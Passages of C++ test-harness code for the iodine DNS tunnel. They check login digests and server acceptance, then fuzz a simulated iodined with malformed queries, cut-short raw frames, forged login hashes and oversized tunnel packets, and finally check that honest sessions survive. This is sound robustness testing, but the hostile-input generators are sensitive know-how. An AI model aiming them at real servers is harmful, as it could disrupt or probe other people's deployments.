			Bytes body = ref::codec_decode(0, q.rest, true);
			uint8_t w[16]; ref::login_hash(pw, srv.seed, w); nlog++;
			if (body.size() < 17 || memcmp(w, body.data() + 1, 16)) err = "bytes 1..16 of the login message are not hash(challenge)";
		}
	};
	s.start_client(0);
	bool up = s.wait_handshake(0, 120);
	if (up) sim::W.run_for(3000000);
	char hd[256]; snprintf(hd, sizeof hd, "client vs reference server: password(%zu)=%s type=%d challenge=0x%08x handshake=%d logins=%d rawlogins=%d raw frames after=%d", plen, hexs(pw, 40).c_str(), c.qtype, srv.seed, (int)up, nlog, nraw, nrawtraffic);
	r.render = hd;
	if (!err.empty()) r.fail("C19:wire", err + " [" + r.render + "]");
	else if (!up) r.fail("C19:handshake", "handshake with the reference server did not complete [" + r.render + "]\n" + s.cli[0]->log);
	else if (!nlog || !nraw) r.fail("C19:coverage", "login / raw login not observed [" + r.render + "]");
	else if (!srv.raw_mode) r.fail("C19:wire", "the reference server did not accept the client's raw login [" + r.render + "]");
	else if (!nrawtraffic) r.fail("C19:raw-not-entered", "the reference server answered the raw login with hash(challenge-1) but the client did not switch to raw mode [" + r.render + "]");
	r.nontrivial = nlog && nraw;
	r.cls("client-vs-reference-server");
	if (srv.seed >= 0x80000000u) r.cls("challenge>=2^31");
	if (srv.seed == 0 || srv.seed == 0xffffffffu) r.cls("challenge-wraps");
	return r;
}

extern "C" void read_password(char *buf, size_t len);

// The third way a password reaches the programs: typed at the prompt.  read_password() is called with the harness's stdin replaced
// by the typed line; what it hands back must be the first 32 bytes of exactly what was typed (up to the newline), so that the
// digest computed from it equals the digest for the password as the other side knows it.
static CaseResult prompt_case(Tape &t)
{
	CaseResult r;
	size_t plen = (size_t)t.range(1, 40);
	std::string pw;
	int pclass = (int)t.below(3);
	for (size_t i = 0; i < plen; i++) { char ch = (char)(pclass == 0 ? t.range(0x21, 0x7e) : (pclass == 1 ? t.range(0x80, 0xfe) : t.range(1, 255))); if (ch == '\n') ch = 'n'; pw += ch; }
	if (t.chance(1, 2)) { static const char WS[] = " \t\r\v\f"; size_t n = 1 + t.below(3); std::string lead; for (size_t i = 0; i < n; i++) lead += WS[t.below(5)]; if (t.chance(2, 3)) pw = lead + pw; else pw += lead; }
	if (pw.size() > 78) pw.resize(78);
	std::string line = pw + "\n";
	FILE *saved = stdin;
	FILE *in = fmemopen((void *)line.data(), line.size(), "r");
	if (!in) { r.render = "prompt: fmemopen failed"; return r; }
	stdin = in;
	char buf[33]; memset(buf, 0x7e, sizeof buf);
	read_password(buf, sizeof buf);
	stdin = saved; fclose(in);
	std::string got(buf, strnlen(buf, sizeof buf));
	std::string want = pw.substr(0, 32);
	r.render = "prompt: typed " + hexs(Bytes(pw.begin(), pw.end()), 48) + " -> password buffer " + hexs(Bytes(got.begin(), got.end()), 48);
	if (got != want) r.fail("C19:prompt", "the password taken from the prompt is not what was typed (first 32 bytes): " + r.render);
	uint32_t ch = gen_challenge(t);
	uint8_t w[16], g[16]; char b33[33]; memset(b33, 0, sizeof b33); memcpy(b33, got.data(), std::min<size_t>(got.size(), 32));
	ref::login_hash(Bytes(pw.begin(), pw.end()), ch, w);
	v_login_calculate((char *)g, 16, b33, (int)ch);
	if (r.ok && memcmp(w, g, 16)) r.fail("C19:prompt", "digest computed from the prompted password differs from the digest for the typed password: " + r.render);
	r.nontrivial = true;
	r.cls("prompt"); if (!pw.empty() && strchr(" \t\r\v\f", pw[0])) r.cls("prompt:leading-white-space");
	return r;
}


// scripted client against the REAL server: which login responses does it accept?  Exactly the documented digest for the challenge it
// issued and its password -- whatever came before in the session (a refused attempt, an accepted one), and whatever the bytes of the
// password beyond the 32nd are.
static CaseResult server_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.password.clear();
	size_t plen = (size_t)t.range(1, 40);
	for (size_t i = 0; i < plen; i++) c.password += (char)t.range(0x21, 0x7e);
	c.nclients = 0;
	c.check_ip = t.chance(2, 3);
	c.srv_seed = t.u32() | 1;
	// -P wins over the environment: a different value in IODINED_PASS must not matter
	bool decoy = t.chance(1, 3);
	if (decoy) { c.decoy_env_server = t.chance(1, 2) ? "short" : c.password.substr(0, c.password.size() / 2) + "-and-something-else-that-is-long"; if (c.decoy_env_server == c.password) c.decoy_env_server += "x"; }
	scn::Session s(c);
	s.start_server();
	scn::ScriptClient sc; sc.addr = sim::Addr::v4(192, 0, 2, 77, 5301); sc.domain = c.domain; sc.password = Bytes(c.password.begin(), c.password.end()); sc.attach();
	sim::W.run_for(10000);
	r.render = scn::fmt("server acceptance: password %zu bytes%s check_ip=%d", plen, decoy ? " (+ different IODINED_PASS in the environment)" : "", (int)c.check_ip);
	r.cls("server-acceptance"); if (decoy) r.cls("-P-and-environment-both-set");
	if (!sc.do_version()) { r.cls("no-version-ack"); return r; }
	int natt = t.range(2, 7), n_wrong = 0, n_right = 0; bool had_right = false, wrong_after_right = false;
	for (int a = 0; a < natt && r.ok; a++) {
		Bytes pw = sc.password; uint32_t ch = sc.challenge;
		int kind = (int)t.pick({4, 2, 2, 2, 2, 2, 1, 1});
		uint8_t h[16];
		bool expect = false; const char *what = "";
		switch (kind) {
		case 0: what = "documented digest"; expect = true; break;
		case 1: what = "one digest bit flipped"; break;
		case 2: what = "digest for challenge + 1"; ch = ch + 1; break;
		case 3: what = "digest for challenge - 1"; ch = ch - 1; break;
		case 4: { what = "one of the first 32 password bytes changed"; size_t k = t.below((uint32_t)std::min<size_t>(32, pw.size())); pw[k] ^= (uint8_t)(1 << t.below(7)); break; }
		case 5: what = "password extended / changed beyond byte 32"; pw.resize(std::max<size_t>(pw.size(), 32), 0); pw.push_back((uint8_t)t.range(1, 255)); if (pw.size() > 34) pw[33] ^= 0x55; expect = true; break;
		case 6: what = "all-zero digest"; break;
		default: what = "random digest"; break;
		}
		ref::login_hash(pw, ch, h);
		if (kind == 1) h[t.below(16)] ^= (uint8_t)(1 << t.below(8));
		if (kind == 6) memset(h, 0, 16);
		if (kind == 7) for (int i = 0; i < 16; i++) h[i] = (uint8_t)t.below(256);
		uint8_t good[16]; ref::login_hash(sc.password, sc.challenge, good);
		expect = !memcmp(h, good, 16);
		uint16_t id = sc.send_name(refproto::name_login(sc.userid, h, sc.cmc++, sc.domain));
		const scn::Rx *rx = sc.wait_answer(id);
		std::string ans = rx && rx->ans.ok ? std::string(rx->ans.payload.begin(), rx->ans.payload.end()) : std::string("(no answer)");
		bool accepted = ans.find('-') != std::string::npos && ans.compare(0, 4, "LNAK") != 0 && ans.compare(0, 3, "BAD") != 0 && ans != "(no answer)";
		r.render += scn::fmt("\n  attempt %d: %s -> %.40s", a, what, ans.c_str());
		if (expect) { n_right++; had_right = true; } else { n_wrong++; if (had_right) wrong_after_right = true; }
		if (accepted && !expect) r.fail("C19:server-accepts-other-response", scn::fmt("the server accepted a login response that is not the documented digest for its challenge and password (%s%s)", what, had_right && !expect ? ", after an accepted login in the same session" : "") + "\n" + r.render);
		if (!accepted && expect) r.fail("C19:server-refuses-documented-response", scn::fmt("the server did not accept the documented digest (%s): %s", what, ans.c_str()) + "\n" + r.render);
	}
	r.nontrivial = n_wrong >= 1 && n_right >= 1;
	if (wrong_after_right) r.cls("wrong-response-after-an-accepted-login");
	return r;
}

static CaseResult run_case(Tape &t)
{
	switch (t.pick({60, 1, 1, 2, 3})) { case 1: return system_case(t); case 2: return client_case(t); case 3: return prompt_case(t); case 4: return server_case(t); default: return unit_case(t); }
}

int main(int argc, char **argv)
{
	if (!ref::md5_selftest()) { fprintf(stderr, "refmd5 self test failed\n"); return 2; }
	PropDef d;
	d.id = "C19";
	d.run = run_case;
	d.tape_scale = 1.0;
	return harness_main(argc, argv, d);
}
