// c05_case.h -- the C05 case function (hostile datagram histories against the real iodined), shared with C12.
#pragma once
#include "adv_common.h"
#include "maldns.h"
#include "diff_common.h"
namespace c05 {
using namespace hz;
using namespace adv;

struct HonestS { int src; bool up = false, raw = false; int user = -1; Bytes tun_ip; uint64_t t_last = 0; size_t absorbed = 0; int state = 0; };

static void honest_absorb_c05(Env &E, HonestS &h)
{
	scn::ScriptClient &sc = E.S(h.src).sc;
	for (; h.absorbed < sc.inbox.size(); h.absorbed++) {
		const scn::Rx &rx = sc.inbox[h.absorbed];
		char k = rx.is_raw || rx.ans.qname.empty() ? 0 : (char)tolower((unsigned char)rx.ans.qname[0]);
		if (k && strchr("p0123456789abcdef", k)) sc.absorb(rx);
	}
}

static CaseResult run_case(Tape &t, const dif::CaseOpt &opt = dif::CaseOpt())
{
	CaseResult r;
	Env E;
	scn::Config &c = E.cfg;
	c.qtype = 1 + (int)t.pick({4, 1, 3, 1, 1, 1, 1});
	c.check_ip = !t.chance(1, 5);
	static const int masks[] = {27, 29, 30, 24, 16};
	c.netmask = masks[t.pick({5, 2, 1, 1, 1})];
	c.forward_port = t.chance(1, 5) ? 5353 : 0;
	c.srv_seed = t.u32() | 1;
	int nhon = c.check_ip ? (int)t.pick({2, 4, 3, 1}) : 0;     // without source checking any datagram may legitimately act for a session
	int nsac = (int)t.pick({2, 4, 2});
	int nhost = 1 + (int)t.below(3);
	int size = c.netmask >= 31 ? 2 : (c.netmask <= 8 ? (1 << 24) : (1 << (32 - c.netmask)));
	int nslots = std::min(16, size - 3);
	if (nhon + nsac > nslots) { nhon = std::min(nhon, nslots); nsac = std::max(0, nslots - nhon); }
	int nsrc = nhon + nsac + nhost;
	boot(E, t, nsrc);
	// the local resolver behind -b: silent, but remembers where forwarded queries come from (the server's forwarding socket)
	static sim::Addr fwd_sock; static bool have_fwd_sock; have_fwd_sock = false;
	sim::W.actors[sim::Addr::v4(127, 0, 0, 1, 5353)] = [](const sim::Datagram &dg) { fwd_sock = dg.src; have_fwd_sock = true; };
	switch (t.pick({3, 2, 2, 1})) { case 0: sim::W.residue_mode = 1; sim::W.residue_byte = 0; break; case 1: sim::W.residue_mode = 1; sim::W.residue_byte = 0xff; break; case 2: sim::W.residue_mode = 1; sim::W.residue_byte = (uint8_t)t.below(256); break; default: sim::W.residue_mode = 2; sim::W.residue_data = t.bytes_of(1 + t.below(300)); break; }
	dif::apply_residue(opt); dif::record(opt);
	mal::Stats ms;
	uint64_t hostile_answers = 0;
	std::set<int> hostile_src;
	sim::W.on_send = [&, prev = sim::W.on_send](const sim::Datagram &dg) {
		if (prev) prev(dg);
		if (dg.from_inst != E.s->srv->idx) return;
		for (int k : hostile_src) if (E.S(k).sc.addr == dg.dst) hostile_answers++;
		learn_from_emission(E, dg);
	};
	sim::W.on_recv = [&, prev = sim::W.on_recv](const sim::Datagram &dg, sim::Instance *i) {
		if (prev) prev(dg, i);
		if (i->idx == E.s->srv->idx) { decode_incoming(E, dg); learn_from_incoming(E); }
	};
	// ---- prelude
	std::vector<HonestS> hs;
	std::string prelude;
	for (int i = 0; i < nhon + nsac; i++) {
		HonestS h; h.src = i;
		scn::ScriptClient &sc = E.S(i).sc;
		static const int UPB[] = {0, 5, 6, 26, 7};
		int upb = UPB[t.pick({3, 1, 1, 1, 1})];
		char de = t.chance(1, 2) ? 0 : "TSUVR"[t.below(5)];
		bool lazy = t.chance(1, 2);
		static const int BIGF[] = {1200, 4093, 4094, 4095, 4096, 65535};
		int F = (int)t.pick({4, 4, 2}) == 0 ? 0 : (t.chance(2, 3) ? t.range(10, 300) : BIGF[t.below(6)]);   // sessions may ask for any fragment size, also far beyond what an answer carries
		h.up = sc.handshake(lazy, F, de, upb);
		h.user = sc.userid; h.t_last = sim::W.now;
		if (h.up) { unsigned a = 0, b = 0, cc = 0, d = 0; sscanf(sc.tun_ip_text.c_str(), "%u.%u.%u.%u", &a, &b, &cc, &d); h.tun_ip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; E.slot[h.user & 31].tun_ip = h.tun_ip; }
		h.state = h.up ? (int)t.pick({3, 2, 2, 1}) : 0;
		if (h.up && h.state == 1) {   // mid upstream transfer: first fragment of a two-fragment packet
			static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
			Bytes z = refproto::zcompress(scn::tun_packet(E.s->server_tun_ip(), h.tun_ip, t.bytes_of(120), 7));
			sc.up_seq = (sc.up_seq + 1) & 7;
			Bytes part(z.begin(), z.begin() + std::min<size_t>(z.size() / 2, 60));
			sc.send_name(refproto::name_data(sc.userid, sc.up_seq, 0, 0, 0, 0, cm[sc.data_cmc++ % 36], sc.up_codec, part, sc.domain));
			sim::W.run_for(3000);
		} else if (h.up && h.state == 2) {   // mid downstream transfer: a packet larger than the fragment size is waiting
			sim::W.offer_tun(E.s->srv, scn::tun_packet(h.tun_ip, E.s->server_tun_ip(), t.bytes_of(500), 9));
			sc.send_ping(); sim::W.run_for(3000);
		} else if (h.up && h.state == 3) {   // raw mode
			uint8_t hh[16]; ref::login_hash(sc.password, sc.challenge + 1, hh);
			sc.send_raw(refproto::raw_frame(1, sc.userid, Bytes(hh, hh + 16))); sim::W.run_for(3000); h.raw = true;
		}
		prelude += fmt("[%s%d user=%d %s state=%d] ", i < nhon ? "honest" : "sacrificial", i, h.user, h.up ? "up" : "refused", h.state);
		hs.push_back(h);
	}
	for (int k = nhon; k < nsrc; k++) hostile_src.insert(k);
	// ---- hostile steps
	int nsteps = t.range(1, 24);
	uint64_t advanced = 0;
	std::string steps;
	auto honest_user = [&](int u) { for (int i = 0; i < nhon; i++) if (hs[i].up && hs[i].user == u) return true; return false; };
	for (int k = 0; k < nsteps && !t.exhausted() && !sim::W.livelock && E.s->srv->state != sim::ST_EXITED; k++) {
		if (opt.perturb) {
			// history perturbation (C12): a harmless echo request from an uninvolved address precedes the step; its text differs between the
			// two runs (same length), so whatever the server leaves lying around from it -- decoded name, scratch buffers -- differs too.
			// How the NEXT datagram is interpreted must not depend on it.
			static const char *TXT[2] = {"zaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "zatsuvrliTSUVRLI0123456789abc"};
			std::string pname = std::string(TXT[opt.variant & 1]) + "." + c.domain;
			sim::Datagram pd; pd.src = opt.perturb_addr; pd.dst = scn::SRV4; pd.data = refproto::make_query((uint16_t)(33000 + k), pname, refproto::qtype_of(c.qtype), false);
			sim::W.send(pd); sim::W.run_for(2500);
		}
		int src = nhon + (int)t.below((uint32_t)(nsac + nhost));
		scn::ScriptClient &sc = E.S(src).sc;
		std::string what;
		switch (t.pick({4, 6, 6, 5, 3, 2, 2, 2, 3, 2, 3, 3})) {
		case 0: { sim::Datagram dg; dg.src = sc.addr; dg.dst = sc.server; dg.data = mal::raw_bytes(t, ms);
			if (c.forward_port && dg.data.size() % 3 == 0) {
				// forwarding on (one raw-bytes step in three, no tape draw): a burst of 17..40 queries for names outside the tunnel domain (more than
				// the 16 the server remembers) and then a datagram from the local resolver whose id matches none of them
				int nq = 17 + (int)(dg.data.size() % 24);
				for (int j = 0; j < nq; j++) { sim::Datagram fq; fq.src = sc.addr; fq.dst = sc.server; fq.data = refproto::make_query((uint16_t)(41000 + 7 * j + k), fmt("host%d.elsewhere.example.org", j), 1, false); sim::W.send(fq); sim::W.run_for(300); }
				if (have_fwd_sock) { sim::Datagram rp; rp.src = sim::Addr::v4(127, 0, 0, 1, 5353); rp.dst = fwd_sock; rp.data = refproto::make_query((uint16_t)(9 + k), "late.elsewhere.example.org", 1, false); rp.data[2] |= 0x80; sim::W.send(rp); sim::W.run_for(300); }
				what = fmt("forwarding burst of %d queries + stray resolver reply", nq); ms.hit("forwarding-burst"); break;
			}
			sim::W.send(dg); what = fmt("raw bytes %zuB", dg.data.size()); break; }
		case 1: { static const char CMD[] = "vVlLiIzZsSoOyYrRnNpP0123456789abcdefABCDEFgxX-_"; char cmd = t.chance(2, 3) ? CMD[t.below(sizeof CMD - 1)] : 0;
			sim::Datagram dg; dg.src = sc.addr; dg.dst = sc.server; dg.data = mal::hostile_query(t, c.domain, cmd, ms); sim::W.send(dg); what = fmt("malformed DNS %zuB cmd=%c", dg.data.size(), cmd ? cmd : '-'); break; }
		case 2: {   // protocol message with adversarial fields
			Act a = gen_hostile(E, t, nsrc, false); a.src = src;
			if (a.kind == K_ADV || a.kind == K_TUN) a.kind = K_P;
			// a correct raw login for an honest session would legitimately rebind it: exclude
			if (a.kind == K_RAWLOGIN && honest_user(a.user) && (a.hash == H_CURRENT || a.hash == H_PLUS1)) a.hash = H_RANDOM;
			if (src < nhon + nsac && t.chance(1, 2)) a.user = hs[src].user;   // the attacker abuses its own logged-in session
			send_act(E, t, a); what = a.str(); ms.hit(std::string("proto:") + KNAME[a.kind]); break;
		}
		case 3: {   // raw-mode frame with arbitrary length / command / userid
			int cmd = (int)t.below(16), u = (int)t.below(16);
			if (src < nhon + nsac && t.chance(1, 2)) u = hs[src].user & 15;
			size_t n; switch (t.pick({5, 3, 2, 1})) { case 0: n = t.below(20); break; case 1: n = t.below(300); break; case 2: n = t.below(5000); break; default: n = 60000 + t.below(5500); break; }
			Bytes body = t.bytes_of(n);
			if (cmd == 1 && honest_user(u) && body.size() >= 16) { uint8_t hh[16]; ref::login_hash(E.password, E.slot[u].challenge + 1, hh); if (!memcmp(hh, body.data(), 16)) body[0] ^= 1; }
			if (cmd == 2 && t.chance(1, 2)) {   // a well-formed compressed packet of up to 6 KB for the server, another session or nobody
				Bytes d = E.s->server_tun_ip();
				if (!hs.empty() && t.chance(2, 3)) { const HonestS &o = hs[t.below((uint32_t)hs.size())]; if (o.up) d = o.tun_ip; }
				size_t bn = t.chance(1, 3) ? 4000 + t.below(2000) : t.below(300);
				Bytes z = refproto::zcompress(scn::tun_packet(d, Bytes{10, 9, 9, 9}, t.bytes_of(bn), 3)); body = z;
				if (t.chance(1, 4) && !body.empty()) body.resize(t.below((uint32_t)body.size()));
			}
			sc.send_raw(refproto::raw_frame(cmd, u, body)); what = fmt("raw frame cmd=%d user=%d %zuB", cmd, u, body.size()); ms.hit("rawframe"); break;
		}
		case 4: {   // packet on the tun device: any length, any destination
			size_t n; switch (t.pick({3, 3, 2, 2, 1})) { case 0: n = t.below(24); break; case 1: n = 24 + t.below(100); break; case 2: n = t.below(3000); break; case 3: n = 3000 + t.below(7000); break; default: n = 60000 + t.below(5000); break; }
			Bytes pkt = t.bytes_of(n);
			if (pkt.size() >= 24 && t.chance(3, 4)) {   // destination: a session's tunnel address (2 in 3) or any slot address
				Bytes d;
				if (!hs.empty() && t.chance(2, 3)) { const HonestS &o = hs[t.below((uint32_t)hs.size())]; if (o.up) d = o.tun_ip; }
				if (d.size() != 4) d = E.s->client_tun_ip((int)t.below(16));
				memcpy(pkt.data() + 20, d.data(), 4);
			}
			sim::W.offer_tun(E.s->srv, pkt); what = fmt("tun packet %zuB", n); ms.hit(n < 24 ? "tun:shorter-than-ip-header" : "tun:packet"); break;
		}
		case 5: { static const uint64_t DT[] = {1000, 20000, 1000000, 5000000, 10000000}; uint64_t dt = DT[t.below(5)]; if (advanced + dt > 40000000ull) dt = 1000; advanced += dt; sim::W.run_for(dt); what = fmt("advance %.3fs", dt / 1e6); break; }
		case 7: {   // a raw-mode frame cut short, sent from a logged-in session's own address; what a careless reader would take from
			// beyond the datagram is exactly what would make the frame valid (C12: in the differential run that continuation is
			// placed in the receive buffer right after the datagram)
			std::vector<int> mine; for (int i = nhon; i < nhon + nsac; i++) if (hs[i].up) mine.push_back(i);
			if (mine.empty()) break;
			HonestS &h = hs[mine[t.below((uint32_t)mine.size())]];
			scn::ScriptClient &own = E.S(h.src).sc;
			uint8_t hh[16]; ref::login_hash(own.password, own.challenge + 1, hh);
			static const int FC_RAW[] = {3, 2, 1}, FC_DNS[] = {1, 2};
			int fc = h.raw ? FC_RAW[t.pick({2, 3, 1})] : FC_DNS[t.pick({2, 1})];
			Bytes body = fc == 2 ? refproto::zcompress(scn::tun_packet(E.s->server_tun_ip(), h.tun_ip, t.bytes_of(40), 5)) : Bytes(hh, hh + 16);
			Bytes full = refproto::raw_frame(fc, own.userid, body);
			size_t cut = t.chance(1, 2) ? 3 : 3 + t.below(17);
			cut = std::min(cut, full.size() - 1);
			bool stale_copy = t.chance(1, 2);   // plain runs: the receive buffer still holds the rest of the complete frame
			Bytes part(full.begin(), full.begin() + cut), rest(full.begin() + cut, full.end());
			{ dif::ScopedResidue sr(opt, rest, stale_copy); own.send_raw(part); sim::W.run_for(3000); }
			what = fmt("raw frame (command %d) of session user %d cut after %zu bytes%s", fc, own.userid, cut, stale_copy ? ", rest still in the buffer" : ""); ms.hit("rawframe:cut-short");
			break;
		}
		case 8: {   // a logged-in session polls (1..4 pings, acknowledging what it got): packets queued for it move through the
			// server's per-session queue while more keep arriving (the ring of four wraps around)
			std::vector<int> up; for (size_t i = 0; i < hs.size(); i++) if (hs[i].up && !hs[i].raw) up.push_back((int)i);
			if (up.empty()) break;
			HonestS &h = hs[up[t.below((uint32_t)up.size())]];
			int n = 1 + (int)t.below(4);
			for (int i = 0; i < n; i++) { E.S(h.src).sc.send_ping(); sim::W.run_for(3000); honest_absorb_c05(E, h); }
			h.t_last = sim::W.now;
			what = fmt("session user %d polls %d times", h.user, n); ms.hit("session-polls");
			break;
		}
		case 9: {   // queue churn: bursts of small packets for one session's tunnel address alternate with a few polls of that session,
			// so that its queue of four fills, drains partly and wraps (the server only reads its tun device while some other
			// session could take data, hence the requirement of a second session)
			std::vector<int> up; for (size_t i = 0; i < hs.size(); i++) if (hs[i].up && !hs[i].raw) up.push_back((int)i);
			int nlive = 0; for (auto &o : hs) if (o.up) nlive++;
			if (up.empty() || nlive < 2) break;
			HonestS &h = hs[up[t.below((uint32_t)up.size())]];
			int rounds = 2 + (int)t.below(3), total = 0;
			for (int r2 = 0; r2 < rounds; r2++) {
				int burst = 2 + (int)t.below(4);
				for (int b = 0; b < burst; b++) { sim::W.offer_tun(E.s->srv, scn::tun_packet(h.tun_ip, E.s->server_tun_ip(), t.bytes_of(8 + t.below(60)), (uint16_t)(700 + total++))); sim::W.run_for(500); }
				int polls = 1 + (int)t.below(3);
				for (int i = 0; i < polls; i++) { E.S(h.src).sc.send_ping(); sim::W.run_for(3000); honest_absorb_c05(E, h); }
			}
			h.t_last = sim::W.now;
			what = fmt("queue churn for session user %d: %d packets in %d bursts with polls in between", h.user, total, rounds); ms.hit("queue-churn");
			break;
		}
		case 10: {  // a bare command letter (optionally one more character) in front of the domain, sent from the address of a logged-in session,
			// honest ones included: too short for every command, so it must be refused or ignored and change nothing
			std::vector<int> up; for (size_t i = 0; i < hs.size(); i++) if (hs[i].up) up.push_back((int)i);
			if (up.empty()) break;
			HonestS &h = hs[up[t.below((uint32_t)up.size())]];
			static const char CMD[] = "vlisoyrnpVLISOYRNP0123456789abcdefABCDEF";
			std::string name(1, CMD[t.below(sizeof CMD - 1)]);
			if (t.chance(1, 3)) name += "abcdefghijklmnopqrstuvwxyz012345"[t.below(32)];
			name += "." + c.domain;
			E.S(h.src).sc.send_name(name, -1, t.chance(1, 4) ? (int)refproto::qtype_of(1 + (int)t.below(7)) : -1);
			what = fmt("bare command '%s' from the address of session user %d", name.substr(0, name.find('.')).c_str(), h.user); ms.hit("bare-command-from-session-address");
			break;
		}
		case 11: {  // an upstream data query of a logged-in session (its own, from its own address) whose header is well-formed but whose
			// payload characters are arbitrary bytes: they go through the upstream codec the session switched to (Base32/64/64u/128)
			std::vector<int> up; for (int i = nhon; i < nhon + nsac; i++) if (hs[i].up) up.push_back(i);
			if (up.empty()) break;
			HonestS &h = hs[up[t.below((uint32_t)up.size())]];
			scn::ScriptClient &own = E.S(h.src).sc;
			static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
			own.up_seq = (own.up_seq + 1 + (int)t.below(3)) & 7;
			std::string name = refproto::name_data(own.userid, own.up_seq, (int)t.pick({4, 1}), own.dn_seq, own.dn_frag, (int)t.below(2), cm[own.data_cmc++ % 36], own.up_codec, Bytes(), own.domain);
			size_t n = t.pick({2, 2, 1}) == 0 ? 1 + t.below(8) : (t.chance(1, 2) ? 1 + t.below(50) : 100 + t.below(120));
			int cls = (int)t.pick({2, 4, 2, 1});
			std::string junk;
			for (size_t i = 0; i < n; i++) { if ((5 + junk.size()) % 60 == 59) junk += '.'; char ch = (char)mal::label_byte(t, cls); if (ch == '.' || ch == 0) ch = (char)0xe9; junk += ch; }
			if (name.size() > 5 && name[5] == '.') name.insert(5, junk); else name = name.substr(0, 5) + junk + "." + own.domain;
			own.send_name(name);
			what = fmt("own-session data (user %d, codec %d) with %zu arbitrary payload bytes", own.userid, own.up_codec, n); ms.hit("own-session-data-with-arbitrary-bytes");
			break;
		}
		default: {  // tunnel command letter followed by arbitrary bytes
			static const char CMD[] = "vlizsoyrnp0123456789abcdefVLIZSOYRNPABCDEF";
			std::string name(1, CMD[t.below(sizeof CMD - 1)]);
			size_t n = t.pick({3, 2, 1}) == 0 ? t.below(20) : (t.chance(1, 2) ? t.below(100) : 150 + t.below(90));
			int cls = (int)t.pick({4, 2, 2, 1});
			for (size_t i = 0; i < n; i++) { if (name.size() % 60 == 59) name += '.'; char ch = (char)mal::label_byte(t, cls); if (ch == '.' || ch == 0) ch = 'q'; name += ch; }
			if (name.back() == '.') name += 'a';
			name += "." + c.domain;
			if (name.size() <= 253) { sc.send_name(name, t.chance(1, 10) ? 0 : -1, t.chance(1, 4) ? (int)refproto::qtype_of(1 + (int)t.below(7)) : -1); what = fmt("command '%c' + %zu arbitrary bytes", name[0], n); ms.hit("cmd+arbitrary"); }
			break;
		}
		}
		sim::W.run_for(3000);
		if (steps.size() < 1200 && !what.empty()) steps += "\n  " + what;
		if (getenv("VERIF_TRACE")) fprintf(stderr, "%.6f %s\n", sim::W.now / 1e6, what.c_str());
	}
	sim::W.run_for(30000);
	// every session (the attacker's own ones too) fetches what the server has queued for it: the downstream path runs
	// with whatever the hostile steps left behind (oversized packets, odd fragment sizes)
	for (int round = 0; round < 3 && E.s->srv->state != sim::ST_EXITED && !sim::W.livelock; round++)
		for (auto &h : hs) if (h.up && !h.raw) { E.S(h.src).sc.send_ping(); sim::W.run_for(3000); honest_absorb_c05(E, h); }
	// ---- oracle (i)
	bool dead = E.s->srv->state == sim::ST_EXITED;
	r.render = c.describe() + fmt(" -b=%d residue=%d | ", c.forward_port, sim::W.residue_mode) + prelude + fmt("| %d hostile steps, server answered hostile sources %llu times", nsteps, (unsigned long long)hostile_answers) + steps;
	if (sim::W.livelock) r.fail("C05:no-return-to-select", "the server did not return to select() (200000 scheduler steps without virtual time advancing)\n" + r.render);
	if (dead) r.fail("C05:server-exited", "the server exited (code " + std::to_string(E.s->srv->exit_code) + "): " + E.s->srv->log.substr(E.s->srv->log.size() > 400 ? E.s->srv->log.size() - 400 : 0) + "\n" + r.render);
	// ---- oracle (ii): health probe
	int probed = 0;
	if (r.ok) for (int i = 0; i < nhon; i++) {
		HonestS &h = hs[i];
		if (!h.up) continue;
		if (sim::W.now - h.t_last > 58000000ull) continue;
		scn::ScriptClient &sc = E.S(h.src).sc;
		Bytes body(20 + i); for (size_t k = 0; k < body.size(); k++) body[k] = (uint8_t)(0xA0 + i * 7 + k * 3);
		Bytes pkt = scn::tun_packet(E.s->server_tun_ip(), h.tun_ip, body, (uint16_t)(61000 + i));
		size_t before_w = E.tm.ev.size(), before_in = sc.inbox.size();
		probed++;
		if (h.raw) {
			sc.send_raw(refproto::raw_frame(2, sc.userid, refproto::zcompress(pkt)));
			sim::W.run_for(20000);
		} else {
			static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
			sc.up_seq = (sc.up_seq + 3) & 7;   // not one of the server's recent sequence numbers
			if (h.state == 1) sc.up_seq = (sc.up_seq + 1) & 7;
			std::string name = refproto::name_data(sc.userid, sc.up_seq, 0, sc.dn_seq, sc.dn_frag, 1, cm[(sc.data_cmc + 17) % 36], sc.up_codec, refproto::zcompress(pkt), sc.domain);
			uint16_t id = sc.send_name(name);
			sim::W.run_for(30000);
			sc.send_ping(); sim::W.run_for(30000);
			bool acked = false, wellformed = true; std::string err;
			for (size_t k = before_in; k < sc.inbox.size(); k++) {
				const scn::Rx &rx = sc.inbox[k];
				if (rx.is_raw) continue;
				if (!rx.ans.ok) { wellformed = false; err = rx.ans.err; continue; }
				refproto::DownHdr dh;
				if (rx.ans.payload.size() >= 2 && refproto::down_header(rx.ans.payload, dh) && dh.up_seq == sc.up_seq && dh.up_frag == 0 && !(rx.ans.payload.size() == 5 && !memcmp(rx.ans.payload.data(), "BADIP", 5))) acked = true;
			}
			(void)id;
			if (!wellformed) r.fail("C05:probe-answer-malformed", fmt("honest session %d (user %d) received an answer that does not parse: %s", i, h.user, err.c_str()) + "\n" + r.render);
			else if (!acked) r.fail("C05:probe-not-acknowledged", fmt("honest session %d (user %d): the server did not acknowledge a fresh upstream packet after the hostile steps", i, h.user) + "\n" + r.render);
		}
		bool written = false;
		for (size_t k = before_w; k < E.tm.ev.size(); k++) if (E.tm.ev[k].write && E.tm.ev[k].inst == E.s->srv->idx && E.tm.ev[k].data == pkt) written = true;
		if (r.ok && !written) r.fail("C05:probe-packet-lost", fmt("honest session %d (user %d, %s): a fresh packet sent after the hostile steps did not reach the server's tun device", i, h.user, h.raw ? "raw mode" : "DNS mode") + "\n" + r.render);
	}
	if (E.s->srv->state == sim::ST_EXITED && !dead) r.fail("C05:server-exited", "the server exited during the health probe");
	dif::finish(opt);
	for (auto &kv : ms.kinds) if (kv.first.find("truncated") != std::string::npos || kv.first.find("cut-short") != std::string::npos || kv.first.find("past-end") != std::string::npos || kv.first.find("unterminated") != std::string::npos || kv.first.find("pointer") != std::string::npos) r.cls("residue-sensitive-shape");
	r.nontrivial = hostile_answers > 0 || ms.kinds.count("rawframe") || ms.kinds.count("tun:shorter-than-ip-header");
	for (auto &kv : ms.kinds) r.cls(kv.first);
	if (probed) r.cls("health-probe");
